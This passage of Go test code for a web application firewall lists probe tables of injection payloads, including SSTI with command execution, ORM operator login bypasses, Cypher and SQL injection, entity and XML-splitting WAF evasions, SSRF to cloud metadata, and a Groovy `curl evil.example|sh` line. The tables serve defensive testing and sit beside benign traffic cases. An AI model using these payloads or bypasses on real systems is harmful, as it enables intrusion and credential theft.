		{name: "SSTI Jinja2 names moved to cookies (request.cookies)", method: "GET", path: "/hello?name=" + q("{{ g[request.cookies.pp][request.cookies.g][request.cookies.b][request.cookies.i](request.cookies.o)[request.cookies.p](request.cookies.c)[request.cookies.r]() }}"),
			header: http.Header{"Cookie": {"pp=pop; g=__globals__; b=__builtins__; i=__import__; o=os; p=popen; c=id; r=read"}}},
		{name: "SSTI Jinja2 names moved to headers (request.headers)", method: "POST", path: "/api", contentType: js, body: `{"name": "{{''[request.headers.a][request.headers.b][1][request.headers.c]()}}"}`},
		{name: "SSTI Razor Process.Start", method: "GET", path: "/hello?name=" + q(`@System.Diagnostics.Process.Start("cmd.exe","/c whoami")`)},
		{name: "Razor new Process", method: "GET", path: "/hello?name=" + q(`@{ var p = new System.Diagnostics.Process(); }`)},
		{name: "Process.Start in brackets", method: "GET", path: "/hello?name=" + q(`[System.Diagnostics.Process]::Start("calc")`)},
		{name: "SSTI OGNL %{7*7}", method: "GET", path: "/hello?name=" + q("%{7*7}")},
		{name: "SSTI FreeMarker [=7*7]", method: "GET", path: "/hello?name=" + q("[=7*7]")},
		{name: "SSTI Velocity #{set}", method: "GET", path: "/hello?name=" + q("#{set}($x=7*7)$x")},
		{name: "SSTI Smarty {7*7}", method: "POST", path: "/api", contentType: js, body: `{"name": "{7*7}"}`},
		{name: "SSTI Django {% debug %}", method: "GET", path: "/hello?name=" + q("{% debug %}")},
		{name: "SSTI Ruby #{%x(id)}", method: "GET", path: "/hello?name=" + q("#{%x(id)}")},
		{name: "SSTI Twig {{ _context }}", method: "GET", path: "/hello?name=" + q("{{ _context }}")},
		{name: "SSTI Symfony app.request.server", method: "GET", path: "/hello?name=" + q("{{ app.request.server.all|join(',') }}")},
		// a ninth fresh-eyes attack's (attack 13): Django's request
		{name: "SSTI Django request.META.DJANGO_SECRET_KEY", method: "GET", path: "/hello?name=" + q("{{ request.META.DJANGO_SECRET_KEY }}")},
		{name: "SSTI Django request.META", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ request.META }}"}`},
		{name: "SSTI Django request.session", method: "GET", path: "/hello?name=" + q("{{request.session}}")},
		{name: "SSTI Django request.COOKIES.sessionid", method: "GET", path: "/hello?name=" + q("{{ request.COOKIES.sessionid }}")},
		{name: "SSTI Django {% for k in request.META.items %}", method: "GET", path: "/hello?name=" + q("{% for k, v in request.META.items %}{{ k }}={{ v }}{% endfor %}")},
		{name: "SSTI Twig 'id'|filter('system')", method: "GET", path: "/hello?name=" + q("{{ 'id'|filter('system') }}")},
		// since a fourth fresh-eyes attack: ORM operators without $ under
		// a credential field (Prisma, Sequelize, Hasura, LoopBack)
		{name: "Prisma {\"password\":{\"not\":\"\"}}", method: "POST", path: "/login", contentType: js, body: `{"email": "admin@example.com", "password": {"not": ""}}`},
		{name: "Prisma contains and not", method: "POST", path: "/login", contentType: js, body: `{"email": {"contains": ""}, "password": {"not": "x"}}`},
		{name: "Prisma token gt", method: "POST", path: "/reset", contentType: js, body: `{"token": {"gt": ""}, "password": "n3w-Secret!"}`},
		{name: "Prisma resetToken not null", method: "POST", path: "/reset", contentType: js, body: `{"resetToken": {"not": null}, "password": "n3w-Secret!"}`},
		{name: "Prisma otp notIn", method: "POST", path: "/2fa", contentType: js, body: `{"otp": {"notIn": ["000000"]}}`},
		{name: "Prisma nested password startsWith", method: "POST", path: "/login", contentType: js, body: `{"user": {"name": "admin", "password": {"startsWith": ""}}}`},
		{name: "Hasura code _neq", method: "POST", path: "/verify", contentType: js, body: `{"code": {"_neq": "0"}}`},
		{name: "Sequelize pin gte", method: "POST", path: "/unlock", contentType: js, body: `{"pin": {"gte": 0}}`},
		{name: "qs password[not] in a form", method: "POST", path: "/login", contentType: form, body: "user=admin&password%5Bnot%5D=x"},
		{name: "qs password[ne] in the query", method: "GET", path: "/login?user=admin&password[ne]=x"},
		// since a fifth (attack 8, F1, F2): the operator above the leaf,
		// and more secret fields
		{name: "Prisma password not equals", method: "POST", path: "/login", contentType: js, body: `{"email": "a@b.c", "password": {"not": {"equals": "x"}}}`},
		{name: "qs password[not][equals] in the query", method: "GET", path: "/login?email=a&password%5Bnot%5D%5Bequals%5D=x"},
		{name: "qs password[notIn][] in the query", method: "GET", path: "/login?email=a&password%5BnotIn%5D%5B%5D=x"},
		{name: "Prisma resetCode not", method: "POST", path: "/reset", contentType: js, body: `{"email": "a@b.c", "resetCode": {"not": ""}}`},
		{name: "Prisma apiKey not", method: "POST", path: "/api/auth", contentType: js, body: `{"apiKey": {"not": ""}}`},
		{name: "Prisma verification_code not", method: "POST", path: "/verify", contentType: js, body: `{"verification_code": {"not": ""}}`},
		{name: "Prisma securityAnswer not", method: "POST", path: "/recover", contentType: js, body: `{"user": "ann", "securityAnswer": {"not": ""}}`},
		{name: "Prisma passwordHash not", method: "POST", path: "/login", contentType: js, body: `{"email": "a@b.c", "passwordHash": {"not": ""}}`},
		// since a sixth (attack 10, B1): the other negated operators of
		// Hasura and Directus, notContains, not_contains, nregexp
		{name: "Hasura password _nregex", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nregex": "x"}}`},
		{name: "Hasura password _niregex", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_niregex": "x"}}`},
		{name: "Hasura password _nsimilar", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nsimilar": "x"}}`},
		{name: "Directus password _nempty", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nempty": true}}`},
		{name: "Directus password _nstarts_with", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nstarts_with": "x"}}`},
		{name: "Directus password _nends_with", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nends_with": "x"}}`},
		{name: "Directus password _nicontains", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"_nicontains": "x"}}`},
		{name: "password notContains", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"notContains": "x"}}`},
		{name: "password not_contains", method: "POST", path: "/api", contentType: js, body: `{"email": "a@b.c", "password": {"not_contains": "x"}}`},
		{name: "qs password[nregexp] in the query", method: "GET", path: "/login?email=a&password%5Bnregexp%5D=x"},
		// since a sixth (attack 10, B2): more one-time-code and credential
		// field names
		{name: "Prisma smsCode not", method: "POST", path: "/otp", contentType: js, body: `{"userId": 1, "smsCode": {"not": ""}}`},
		{name: "Prisma one_time_code not", method: "POST", path: "/otp", contentType: js, body: `{"userId": 1, "one_time_code": {"not": ""}}`},
		{name: "Supabase token_hash not", method: "POST", path: "/verify", contentType: js, body: `{"type": "email", "token_hash": {"not": ""}}`},
		{name: "Prisma pw not", method: "POST", path: "/login", contentType: js, body: `{"user": "ann", "pw": {"not": ""}}`},
		{name: "Prisma userPass not", method: "POST", path: "/login", contentType: js, body: `{"user": "ann", "userPass": {"not": ""}}`},
		{name: "Prisma securityPin not", method: "POST", path: "/unlock", contentType: js, body: `{"userId": 1, "securityPin": {"not": ""}}`},
		{name: "Prisma cvv not", method: "POST", path: "/pay", contentType: js, body: `{"card": "4111", "cvv": {"not": ""}}`},
		{name: "Prisma password1 not", method: "POST", path: "/login", contentType: js, body: `{"user": "ann", "password1": {"not": ""}}`},
		{name: "qs emailCode[not] in the query", method: "GET", path: "/verify?email=a&emailCode%5Bnot%5D=x"},
		// since a seventh (attack 11, BROKE 8): more names, more negated
		// operators
		{name: "Prisma totpCode not", method: "POST", path: "/mfa", contentType: js, body: `{"totpCode":{"not":""}}`},
		{name: "Prisma smsOtp not", method: "POST", path: "/otp", contentType: js, body: `{"smsOtp":{"not":""}}`},
		{name: "Prisma emailOtp not", method: "POST", path: "/otp", contentType: js, body: `{"emailOtp":{"not":""}}`},
		{name: "Prisma authenticatorCode not", method: "POST", path: "/mfa", contentType: js, body: `{"authenticatorCode":{"not":""}}`},
		{name: "Prisma resetKey not", method: "POST", path: "/reset", contentType: js, body: `{"resetKey":{"not":""}}`},
		{name: "Prisma pass_word not", method: "POST", path: "/login", contentType: js, body: `{"pass_word":{"not":""}}`},
		{name: "Sequelize password notRegexp", method: "POST", path: "/login", contentType: js, body: `{"password":{"notRegexp":"zz"}}`},
		{name: "Sequelize password notBetween", method: "POST", path: "/login", contentType: js, body: `{"password":{"notBetween":[1,2]}}`},
		{name: "password not_starts_with", method: "POST", path: "/login", contentType: js, body: `{"password":{"not_starts_with":"z"}}`},
		// since a fourth fresh-eyes attack: Smarty's {math} (CVE-2021-29454)
		// and arithmetic by named filters and functions
		{name: "SSTI Smarty {math equation=7*7}", method: "GET", path: "/hello?name=" + q(`{math equation="7*7"}`)},
		{name: "SSTI Smarty {math} octal system(id)", method: "POST", path: "/api", contentType: js,
			body: `{"name": "{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"id\\\")\"}"}`},
		{name: "SSTI Smarty {math} with variables", method: "POST", path: "/hello", contentType: form, body: "name=" + q(`{math equation='x*y' x=7 y=7}`)},
		{name: "SSTI Liquid {{ 7 | times: 7 }}", method: "GET", path: "/hello?name=" + q("{{ 7 | times: 7 }}")},
		{name: "SSTI Liquid {{ 7 | plus: 7 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{ 7 | plus: 7 }}"}`},
		{name: "SSTI Liquid {% assign %} divided_by", method: "GET", path: "/hello?name=" + q("{% assign x = 49 | divided_by: 7 %}{{ x }}")},
		{name: "SSTI sprig {{ mul 7 7 }}", method: "GET", path: "/hello?name=" + q("{{ mul 7 7 }}")},
		{name: "SSTI sprig {{ add 7 7 }}", method: "POST", path: "/api", contentType: js, body: `{"name": "{{add 7 7}}"}`},
		{name: "SSTI sprig {{ 7 | mul 7 }}", method: "GET", path: "/hello?name=" + q("{{ 7 | mul 7 }}")},
		{name: "SSTI sprig {{ mul (add 3 4) 7 }}", method: "GET", path: "/hello?name=" + q("{{ mul (add 3 4) 7 }}")},
		// LDAP injection
	}
	crsMisses = append(crsMisses, fileAttacks()...)
	// a tenth fresh-eyes attack's (attack 14): Groovy and ERB code
	// (210116), str.format fields (210117) and Cypher after a quote
	// (210135), each in the query, JSON, a multipart text file and an
	// XML element
	for _, s := range []string{
		`<% ['bash','-c','curl evil.example|sh'].execute() %>`, `<% 'id'.execute() %>`, `<% ['id'].execute() %>`,
		`<% evaluate('"id".execute()') %>`, `yieldUnescaped ['id'].execute().text`,
		`<%= %x[whoami] %>`, `<%= %x(id) %>`, `<%= system 'id' %>`, `<%= Kernel.send(:system, 'id') %>`,
		`<%= instance_eval('%x(id)') %>`, `<%= require 'open3'; Open3.capture2('id')[0] %>`, `<%= ENV.to_h %>`,
		`{user.__class__.__init__.__globals__[CONFIG][SECRET_KEY]}`, `{0.__init__.__globals__[os].environ}`,
		`x' RETURN 1 UNION MATCH (u:User) RETURN u.password//`, `x' WITH 1 as a MATCH (u:User) RETURN u.password//`,
		`x' OR 1=1 WITH u MATCH (u) RETURN u//`, `x' RETURN u.password//`, `x' DETACH DELETE n//`,
		// attack 18's: a clause word with a quote right after it at the
		// value's start, any clause up to a comment at the value's end
		`Match' RETURN u.password//`, `MATCH' OR 1=1 WITH u MATCH (u) RETURN u//`, `Create' RETURN 1 UNION MATCH (u:User) RETURN u.password//`,
		`x' RETURN u{.password}//`, `x' RETURN u['password']//`, `x' RETURN properties(u)//`, `x' RETURN [u.password]//`,
		`x' RETURN {p:u.password}//`, `x' RETURN DISTINCT u.password//`, `x' RETURN collect(u.password)//`, "x' RETURN `u`.password//",
		`x' WITH u RETURN u.password//`, `x' SET u += {admin:true}//`, `x' SET u = {admin:true}//`, `x' SET u:Admin//`,
		`x' REMOVE u.password//`, `x' FOREACH (n IN [u] | DETACH DELETE n)//`,
	} {
		crsMisses = append(crsMisses, inFourPlaces(s)...)
	}
	// the template rules before those (210110-210114) read an XML
	// element's text too: {{config.items()}} as XML passed (found
	// while fixing attack 14)
	for _, s := range []string{`{{config.items()}}`, `{{7*7}}`, `{{ self.__init__.__globals__ }}`, `#set($x = 7 * 7)`, `{{ 7 | mul 7 }}`, `{{ (7).real*7 }}`} {
		x := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
		crsMisses = append(crsMisses, probe{name: "XML element " + s, method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><page><title>` + x + `</title></page>`})
	}
	// an element's text split by comments, CDATA sections or processing
	// instructions, which a parser joins (attack 35: each node was read
	// alone): the joined text is an argument of the engine's, so the
	// CRS's own rules refuse most (also with crs_only), the additions
	// the rest
	for _, s := range []string{"1' UNION <![CDATA[SELECT]]> password FROM users--", "1' UNION SEL<!---->ECT password FROM users--", "admin'<!----> --",
		"${jn<!---->di:ldap://x/a}", "{{7*<!---->7}}", "x' OR sleep<!---->EachRow(3)--", "x' OR lengthUTF<!---->8(password)>5--", `Kernel.sy<!---->stem("id")`,
		"<![CDATA[<]]><![CDATA[s]]><![CDATA[c]]><![CDATA[r]]><![CDATA[i]]><![CDATA[p]]><![CDATA[t]]><![CDATA[>]]>alert(1)&lt;/script>",
		"&lt;<!---->s<!---->c<!---->r<!---->i<!---->p<!---->t>alert(1)&lt;/<!---->script>", "; c<!---->a<!---->t /e<!---->tc/pa<!---->sswd",
		".<!---->./.<!---->./.<!---->./etc/passwd", "1' UNION SEL<?x?>ECT password FROM users--",
		// attack 36's and a review's: child elements split it
		"1' UNION SEL<b/>ECT password FROM users--", "1' UNION <b>SELECT</b> password FROM users--", "1' UNI<a><b>ON SEL</b></a>ECT password FROM users--",
		"1' UNION SEL<?x?><b></b>ECT password FROM users--", "x' OR sleep<b/>EachRow(3)--", "admin'<b/> --", "{{7*<b/>7}}",
		"<a>1' UNION SEL</a><a>ECT password FROM users--</a>", "<a>x' OR sleep</a><a>EachRow(3)--</a>"} {
		p := probe{name: "XML text split " + s, method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><r><q>` + s + `</q></r>`}
		if strings.Contains(s, "EachRow") || strings.Contains(s, "lengthUTF") || strings.Contains(s, "{{") {
			crsMisses = append(crsMisses, p)
		} else {
			crsCatches = append(crsCatches, p)
		}
	}
	// XML that declares a charset the CRS allows, which the engine
	// refused whatever it held (attack 35): read now, attacks in it
	// refused as in UTF-8
	for _, enc := range []string{"ISO-8859-1", "windows-1252", "iso-8859-15", "US-ASCII"} {
		crsCatches = append(crsCatches, probe{name: "SQLi in XML declared " + enc, method: "POST", path: "/api", contentType: "application/xml",
			body: `<?xml version="1.0" encoding="` + enc + `"?><r><q>1' UNION SELECT password FROM users--</q></r>`})
	}
	crsCatches = append(crsCatches, probe{name: "javascript: in an SVG's xlink:href", method: "POST", path: "/api", contentType: "application/xml",
		body: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(document.cookie)"><text>x</text></a></svg>`})
	// a review's: UTF-8 in a document declared ISO-8859-1 is read as
	// UTF-8, as an application that follows the Content-Type reads it
	crsCatches = append(crsCatches, probe{name: "admin\uff07 -- in UTF-8 XML declared ISO-8859-1", method: "POST", path: "/api", contentType: "application/xml; charset=utf-8",
		body: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r><q>admin\uff07 --</q></r>"})
	crsMisses = append(crsMisses, probe{name: "{{7*7}} in an attribute of XML declared ISO-8859-1", method: "POST", path: "/api", contentType: "application/xml",
		body: "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?><r><q a=\"{{7*7}}\">caf\xe9</q></r>"})
	// a bracketed key in a parameter's or a field's name, which PHP,
	// Rails and qs read as a map's key (attack 35)
	crsMisses = append(crsMisses,
		probe{name: "admin' -- as a bracketed key in the query", method: "GET", path: "/x?q[" + q("admin' --") + "]=1"},
		probe{name: "x' OR sleepEachRow(3)-- as a filter's column in the query", method: "GET", path: "/x?filter[" + q("x' OR sleepEachRow(3)--") + "]=1"},
		probe{name: "1 OR sleepEachRow(3) as a sort's column in a form", method: "POST", path: "/x", contentType: form, body: "sort[" + q("1 OR sleepEachRow(3)") + "]=asc"},
		probe{name: "admin'# as a nested bracketed key in a form", method: "POST", path: "/x", contentType: form, body: "a[b][" + q("admin'#") + "]=1"},
		// a review's: the ninth part (eight were read), a cookie's name
		probe{name: "admin' -- as the ninth bracketed part", method: "GET", path: "/x?q[a][a][a][a][a][a][a][a][" + q("admin' --") + "]=1"},
		probe{name: "admin' -- after eight []", method: "GET", path: "/x?a[][][][][][][][][" + q("admin' --") + "]=1"},
		probe{name: "admin' -- as a bracketed key in a cookie's name", method: "GET", path: "/x", header: http.Header{"Cookie": {"q[admin' --]=1"}}},
		// qs's allowDots spelling (attack 38)
		probe{name: "(select password from users) as a dotted key", method: "GET", path: "/s?filter." + q("(select password from users)") + "=1"},
		probe{name: "x`id` as a dotted key", method: "GET", path: "/s?filter.x" + q("`id`") + "=1"},
		probe{name: "1 OR sleepEachRow(3) as a dotted key in a form", method: "POST", path: "/x", contentType: form, body: "sort.a." + q("1 OR lengthUTF8(password)>5") + "=asc"},
	)
	// a repeated parameter's values joined with commas, as ASP.NET and a
	// template of qs's array hand them on (attack 37)
	crsMisses = append(crsMisses,
		probe{name: "sort=id&sort=sleepEachRow(3) in the query", method: "GET", path: "/x?sort=id&sort=" + q("sleepEachRow(3)")},
		probe{name: "sort=id&sort=lengthUTF8(password)>5 in a form", method: "POST", path: "/x", contentType: form, body: "sort=id&sort=" + q("lengthUTF8(password) > 5")},
	)
	// numeric character references in a Latin-1 form, which Express's
	// body-parser decodes with qs's interpretNumericEntities (attack 38)
	for _, b := range []string{"q=admin%26%2339%3B%20%26%2345%3B%26%2345%3B", "q=admin%26%2339%3B%26%2335%3B", "q=x%26%2339%3B%20or%20%26%2339%3B1%26%2339%3B%26%2361%3B%26%2339%3B1",
		"q=x%26%2339%3B%20OR%20sleepEachRow%26%2340%3B3%26%2341%3B%26%2345%3B%26%2345%3B", "q=1%26%2339%3B%20AND%20SLEEP%26%2340%3B5%26%2341%3B%26%2335%3B",
		"q=admin%26%2339%3B%20--", "q=admin%26%23x27%3B%20--"} {
		crsMisses = append(crsMisses, probe{name: "Latin-1 form " + b, method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded; charset=iso-8859-1", body: b})
	}
	// references of more than seven digits, without a semicolon, named
	// (Python's html.unescape, PHP's html_entity_decode with ENT_HTML5)
	// and past U+FFFF (qs keeps the number modulo 2^16): attack 39
	for _, v := range []string{"admin&#00000039; --", "1&#000000039; OR &#000000039;1&#000000039;=&#000000039;1", "admin&#000000039;&#000000035;",
		"admin&#x000000027; --", "admin&#39 --", "admin&#39 OR 1=1--", "admin&#x27 --", "admin&#39&#35;", "admin&apos; --", "admin&apos; OR 1=1--",
		"x&apos;&rpar; OR sleepEachRow&lpar;3&rpar;--", "admin&#65575; --", "1&#65575; OR &#65575;1&#65575;=&#65575;1",
		// attack 40: references Python's html.unescape deletes, in a word
		"1&#39; un&#1;ion sel&#1;ect password fr&#1;om users-- ", "1&#39; un&#65535;ion sel&#65535;ect password fr&#65535;om users-- ",
		"1' un&#65535;ion sel&#65535;ect password fr&#65535;om users-- ", "1' un&#11;ion sel&#11;ect password fr&#11;om users-- ",
		"1' un&#127;ion sel&#127;ect password fr&#127;om users-- ", "1' un&#x1;ion sel&#x1;ect password fr&#x1;om users-- ",
		"1' un&#1ion sel&#1ect password fr&#1om users-- ", "1' un&#xfffe;ion sel&#xfffe;ect password fr&#xfffe;om users-- ",
		"1' un&#xFDD0;ion sel&#xFDD0;ect password fr&#xFDD0;om users-- ", "1' un&#1114111;ion sel&#1114111;ect password fr&#1114111;om users-- ",
		"1' or&#8; 1=1-&#8;- ", "1'&#65535; or 1=1-&#65535;- ", "1' o&#65535;r 1=1-&#65535;- ", "admin&#39;-&#1;-", "admin&#39;-&#65535;-",
		"admin'-&#65535;-", "; c&#65535;at /e&#65535;tc/pa&#65535;sswd", "sys&#65535;tem('id')", "__imp&#65535;ort__('os').pop&#65535;en('id').read()",
		"{{7&#65535;*7}}", "{{con&#65535;fig.items()}}"} {
		crsMisses = append(crsMisses,
			probe{name: "references in a Latin-1 form: " + v, method: "POST", path: "/login", contentType: "application/x-www-form-urlencoded; charset=iso-8859-1", body: "q=" + q(v)},
			probe{name: "references in the query: " + v, method: "GET", path: "/login?q=" + q(v)},
			probe{name: "references in JSON: " + v, method: "POST", path: "/login", contentType: js, body: `{"q": "` + v + `"}`},
		)
	}
	// parts of the query after a ; (Rails, Rack 2.2, WEBrick, CGI) and
	// of the Cookie header after a , (Rack before 2.2.3): attack 42
	for _, path := range []string{"/s?a=1;file=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", "/s?a=1;file=config%2Fmaster.key",
		"/s?a=1;id=1%20OR%20EXISTS(VALUES(1))", "/s?a=1;id=null%20OR%20lengthUTF8(password)%3E5", "/s?a=1;id=1%20OR%20sleepEachRow(3)%20x",
		"/s?a=1;ref=--upload-pack%3Did", "/s?a=1;opts=-oProxyCommand%3Did", "/s?a=1;filter=%7B%22user%22%3A%20%22admin'%20--%22%7D",
		"/s?page=1;target=http%3A%2F%2F169.254.169.254.nip.io%2F"} {
		crsMisses = append(crsMisses, probe{name: "after a ; in the query: " + path, method: "GET", path: path})
	}
	for _, c := range []string{"a=x, url=%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F", "a=x, file=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken",
		"a=x, id=1%20OR%20EXISTS(VALUES(1))", "a=x, ref=--upload-pack%3Did",
		// attack 43's: the first part, before the ,
		"q=%60id%60, a=b", "q=%7Cid, a=b", "q=127.0.0.1%3B%20id, a=b", "q=1%3Bid, a=b", "q=config%2Fmaster.key, a=b"} {
		crsMisses = append(crsMisses, probe{name: "after a , in a cookie: " + c, method: "GET", path: "/s", header: http.Header{"Cookie": {c}}})
	}
	// JSON in UTF-7 behind a charset parameter not named in lowercase,
	// which Express's body-parser decodes (attack 35; 920480 reads
	// charset= only)
	for _, ct := range []string{"application/json; Charset=utf-7", "application/json; CHARSET=utf-7", "application/json;cHaRsEt=\"UTF-7\"",
		"text/plain; Charset=utf-7", "application/x-www-form-urlencoded; Charset=utf-7"} {
		crsMisses = append(crsMisses, probe{name: "UTF-7 body as " + ct, method: "POST", path: "/api", contentType: ct, body: `{"q": "admin+ACc- +AC0-+AC0-"}`})
	}
	crsMisses = append(crsMisses,
		// Cypher with \u0027 in JSON, in a value and in a key (210135)
		probe{name: "Cypher \\u0027 RETURN 1 UNION MATCH in a JSON value", method: "POST", path: "/api/users", contentType: js, body: `{"name": "x\u0027 RETURN 1 UNION MATCH (u:User) RETURN u.password//"}`},
		probe{name: "Cypher \\u0027 WITH 1 as a MATCH in a JSON key", method: "POST", path: "/api/users", contentType: js, body: `{"x\u0027 WITH 1 as a MATCH (u:User) RETURN u.password//": "a"}`},
		// Node mysql/mysql2 object injection: a key that repeats its
		// parent's with a truthy value (210134)
		probe{name: "mysql {\"password\":{\"password\":1}} in JSON", method: "POST", path: "/login", contentType: js, body: `{"username": "admin", "password": {"password": 1}}`},
		probe{name: "mysql {\"password\":{\"password\":true}} in JSON", method: "POST", path: "/login", contentType: js, body: `{"password": {"password": true}}`},
		probe{name: "mysql password[password]=1 in the query (Express's qs)", method: "GET", path: "/login?username=admin&password[password]=1"},
		probe{name: "mysql password%5Bpassword%5D=1 in a form", method: "POST", path: "/login", contentType: form, body: "username=admin&password%5Bpassword%5D=1"},
	)
	return crsCatches, crsMisses
}

// inFourPlaces is s in the query, a JSON body, a multipart text file and
// an XML element's text.
func inFourPlaces(s string) []probe {
	file, fileType := multipartFile("template", `filename="template.txt"`, "text/plain", s)
	x := strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
	return []probe{
		{name: "query " + s, method: "GET", path: "/hello?name=" + url.QueryEscape(s)},
		{name: "JSON " + s, method: "POST", path: "/api", contentType: "application/json", body: jsonString("name", s)},
		{name: "multipart text file " + s, method: "POST", path: "/upload", contentType: fileType, body: file},
		{name: "XML element " + s, method: "POST", path: "/api", contentType: "application/xml", body: `<?xml version="1.0"?><page><title>` + x + `</title></page>`},
	}
}

// utf16be is s as UTF-16BE text; control pads every line of s with
// control bytes (over a third of the result), which a test of 90%
// printable bytes took for binary.
func utf16be(s string) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u>>8), byte(u))
	}
	return b
}

func control(s string) string {
	return strings.ReplaceAll(s, "\n", "\x01\x02\x03\x04\x05\x06\x07\x0b\x0e\x0f\x10\x11\x12\x13\x14\x15\n")
}

// fileAttacks are attacks in multipart file parts that were taken for
// binary, or for code, and not read (a fourth fresh-eyes attack): CSV
// declared text/x-csv, UTF-16 text without a byte order mark, text padded
// with control bytes, text behind an image's magic number.
func fileAttacks() []probe {
	csv := "id,name\n1,x' UNION SELECT username, password FROM users --\n2,bob\n"
	var out []probe
	for _, f := range []struct{ name, filename, ctype, contents string }{
		{"CSV declared text/x-csv", "report.csv", "text/x-csv", csv},
		{"CSV declared text/x-comma-separated-values", "report.csv", "text/x-comma-separated-values", csv},
		{"CSV declared application/csv", "report.csv", "application/csv", csv},
		{"TSV declared text/tab-separated-values", "report.tsv", "text/tab-separated-values", strings.ReplaceAll(csv, ",", "\t")},
		{"UTF-16LE CSV without a byte order mark", "report.csv", "text/csv", string(utf16le(csv))},
		{"UTF-16BE CSV without a byte order mark", "report.csv", "text/csv", string(utf16be(csv))},
		{"UTF-16LE text with a byte order mark, octet-stream", "notes.txt", "application/octet-stream", "\xff\xfe" + string(utf16le("see 1' OR '1'='1' -- here"))},
		{"CSV padded with control bytes", "report.csv", "text/csv", control(csv)},
		{"CSV padded with NUL bytes", "report.csv", "text/csv", strings.ReplaceAll(csv, ",", ",\x00\x00\x00\x00\x00")},
		{"CSV behind a GIF header", "report.csv", "text/csv", "GIF89a\n" + csv},
		{"commands in a text/x-log file", "run.log", "text/x-log", "127.0.0.1; cat /etc/passwd\n"},
	} {
		body, ct := multipartFile("report", fmt.Sprintf("filename=%q", f.filename), f.ctype, f.contents)
		out = append(out, probe{name: "file part: " + f.name, method: "POST", path: "/upload", contentType: ct, body: body})
	}
	return out
}

// fileBenign are ordinary uploads near fileAttacks: none may be refused.
func fileBenign() []probe {
	rnd := make([]byte, 4096)
	r := rand.New(rand.NewPCG(4, 29)) // fixed noise
	for i := range rnd {
		rnd[i] = byte(r.Uint32())
	}
	contacts := "name,email,city\n\"O'Neil, Jane\",jane@example.com,Köln\nBob,bob@example.com,\"St. Mary's\"\n"
	var out []probe
	for _, f := range []struct{ name, filename, ctype, contents string }{
		{"a CSV declared text/x-csv", "contacts.csv", "text/x-csv", contacts},
		{"a UTF-16LE tab-separated export with a byte order mark (Excel's Unicode text)", "contacts.txt", "text/plain",
			"\xff\xfe" + string(utf16le(strings.ReplaceAll(contacts, ",", "\t")))},
		{"a UTF-16LE CSV without a byte order mark", "contacts.csv", "text/csv", string(utf16le(contacts))},
		{"a terminal log with colour escapes", "build.log", "text/x-log",
			"\x1b[32mok\x1b[0m   compile 1.2s\n\x1b[33mwarn\x1b[0m unused variable 'x'\n\x1b[32mok\x1b[0m   test 3.4s\n"},
		{"a JPEG", "me.jpg", "image/jpeg", "\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + string(rnd)},
		{"binary data without a magic number", "blob.bin", "application/octet-stream", string(rnd)},
		{"a Python script declared text/x-python", "job.py", "text/x-python", "import os\nos.system('ls -la /tmp; id')\n"},
	} {
		body, ct := multipartFile("upload", fmt.Sprintf("filename=%q", f.filename), f.ctype, f.contents)
		out = append(out, probe{name: "file part: " + f.name, method: "POST", path: "/upload", contentType: ct, body: body})
	}
	return out
}

// htmlMail is an e-mail message with an HTML body, as Gmail's API takes it
// (raw) and SendGrid's attachments carry HTML, with the given text in it.
func htmlMail(text string) string {
	return "From: Jane <jane@example.com>\r\nTo: bob@example.com\r\nSubject: Your order #1234 has shipped\r\n" +
		"MIME-Version: 1.0\r\nContent-Type: text/html; charset=\"UTF-8\"\r\n\r\n" +
		`<html><body><p>Hi Bob,</p><p>Your order <b>#1234</b> has shipped. <a href="https://example.com/orders/1234?utm_source=email&amp;utm_medium=email">Track it</a>.</p>` +
		`<img src="https://example.com/logo.png" alt="logo" width="120"><p style="color:#888;font-family:Arial,sans-serif">` + text +
		` <a href="https://example.com/unsubscribe?u=abc123">Unsubscribe</a></p></body></html>` + "\r\n"
}

// htmlPage is an HTML document with the given text in it.
func htmlPage(text string) string {
	return `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Invoice 1234</title><style>td{padding:4px}</style></head>` +
		`<body><h1>Invoice 1234</h1><table><tr><td>Lamp</td><td>$5.99</td></tr><tr><td>Shipping</td><td>$2.00</td></tr></table>` +
		`<p>` + text + `</p><p><a href="https://example.com/invoices/1234.pdf">Download the PDF</a></p></body></html>`
}

// benignTable is ordinary traffic that must pass: the false-positive
// budget is none of it refused, with the additions as without them.
func benignTable() []probe {
	q := url.QueryEscape
	mp, mpType := multipartBody("title", "Trip to Zürich", "body", "We met O'Brien at the café; prices from $5 to $20.")
	form := "application/x-www-form-urlencoded"
	js := "application/json"
	return append([]probe{
		{name: "a JSON API call", method: "POST", path: "/registry/services/hello_service", contentType: js,
			body: `{"address": "127.0.0.1:9090", "ttl": "30s", "metadata": {"version": "2", "zone": "eu-1"}, "health": {"path": "/healthz"}}`},
		{name: "a PowerShell answer naming System.Diagnostics.Process (attack 60)", method: "GET", path: "/search?q=" + q("[System.Diagnostics.Process]::GetCurrentProcess()")},
